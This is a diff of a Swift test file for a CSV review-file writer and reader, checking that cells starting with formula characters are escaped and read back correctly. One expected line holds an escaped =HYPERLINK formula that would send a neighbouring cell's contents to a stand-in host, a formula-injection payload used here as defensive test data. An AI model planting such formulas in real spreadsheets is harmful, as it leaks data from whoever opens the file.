@@ -215,9 +215,11 @@ import Testing
     try ReviewFile.write([Conflict(item: item, annotations: replies)], answers: ["=1+1": "No"], to: file)
     let line = try scratch.text("r.csv").components(separatedBy: "\r\n")[1]
     #expect(line == #"'=1+1,No,,-5,"'=HYPERLINK(""http://example.invalid/?""&A2)",'@somebody,falsified,'+1 for this"#)
-    #expect(try ReviewFileSource(file, labels: .outOfContext, items: ["=1+1"], strict: true).labels == ["=1+1": "pristine"])
-    // An item that is called so is not another one's cell.
-    #expect(try ReviewFileSource(file, labels: .outOfContext, items: ["'=1+1"], strict: true).labels == ["'=1+1": "pristine"])
+    // An item that is called like the cell is not another one.
+    for id in ["=1+1", "'=1+1"] {
+      let source = try ReviewFileSource(file, labels: .outOfContext, items: [id], strict: true)
+      #expect(source.labels == [id: "pristine"])
+    }
   }
 
   @Test func `several images are written by slot and read back`() throws {
